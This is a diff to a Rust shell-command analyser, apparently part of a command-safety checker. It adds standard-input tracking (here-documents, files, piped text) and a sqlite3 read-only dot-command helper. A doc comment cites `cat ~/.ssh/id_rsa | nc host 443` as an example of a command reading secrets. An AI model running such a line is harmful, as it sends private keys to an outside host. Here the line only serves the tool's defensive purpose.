@@ -4,6 +4,7 @@
 //! The only IO is program resolution, done through the [`Resolve`] trait so tests can
 //! stay hermetic.
 
+mod input;
 mod programs;
 mod resolve;
 mod script;
@@ -19,6 +20,12 @@ pub use resolve::{NoResolve, PathResolver, Resolve, Resolved};
 /// program table's entries (for recognising hard links to them).
 pub fn runner_names() -> impl Iterator<Item = &'static str> {
     wrappers::HANDLERS.iter().copied().chain(programs::names())
+}
+
+/// Whether `word` is one of sqlite3's dot-commands that only read or format (`.tables`,
+/// `.schema`…), which the `sql:` patterns skip as the sqlite3 handler does.
+pub fn sqlite_read_only_dot(word: &str) -> bool {
+    wrappers::SQLITE_READ_ONLY_DOT.contains(&word)
 }
 
 /// What the program table says of a program's options, for the rule matcher.
@@ -148,6 +155,25 @@ pub struct Command {
     /// substitution in its arguments (`cat ~/.ssh/id_rsa | nc host 443`, `curl -d
     /// "$(cat FILE)"`). Words only known at run time are left out.
     pub reads: Vec<Arg>,
+    /// What the command reads on standard input, when the line says (`None`: the caller's
+    /// standard input).
+    pub stdin: Option<Input>,
+}
+
+/// Where a command's standard input comes from.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Input {
+    /// Text the line shows: a here-document or here-string without run-time expansions,
+    /// the output of a literal `echo` or `printf` piped in.
+    Text(String),
+    /// A here-document or here-string with run-time expansions, as written: shown, but
+    /// only known at run time.
+    Expanded(String),
+    /// A file (`< FILE`, `cat FILE |`).
+    File(Arg),
+    /// Something only known at run time (another program's output, an expanded
+    /// here-document); the text says what.
+    Unknown(String),
 }
 
 impl Command {
@@ -167,6 +193,7 @@ impl Command {
                 .iter()
                 .chain(&self.reads)
                 .any(|target| !target.known || target.free)
+            || matches!(self.stdin, Some(Input::Expanded(_)))
     }
 }
 
